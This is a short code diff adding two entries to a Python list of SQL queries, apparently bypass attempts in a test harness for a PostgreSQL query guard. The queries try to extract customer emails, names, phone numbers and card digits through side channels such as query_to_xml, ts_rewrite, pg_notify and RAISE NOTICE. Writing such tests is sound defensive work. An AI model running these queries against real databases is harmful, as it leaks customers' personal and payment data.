@@ -72,6 +72,10 @@ ATTEMPTS = [
     f"SELECT right(card_number, 4) FROM payments WHERE order_id = {ORDER_ID} LIMIT 1",
     f"SELECT p FROM payments p WHERE order_id = {ORDER_ID} LIMIT 1",
     f"SELECT query_to_xml('SELECT email FROM customers WHERE id = {S}', true, true, '')",
+    f"SELECT query_to_xml('SELECT email, full_name, phone FROM customers WHERE id = {S} LIMIT 1',"
+    " true, false, '') WHERE true LIMIT 1",
+    f"SELECT ts_rewrite('x'::tsquery, 'SELECT ''x''::tsquery, email::tsquery FROM customers"
+    f" WHERE id = {S}') WHERE true LIMIT 1",
     f"SELECT pg_notify('leak', email) FROM customers WHERE id = {S} LIMIT 1",
     f"DO $$ BEGIN RAISE NOTICE '%', (SELECT email FROM customers WHERE id = {S}); END $$",
     "SELECT id FROM customers WHERE email LIKE 'quux%' LIMIT 1",
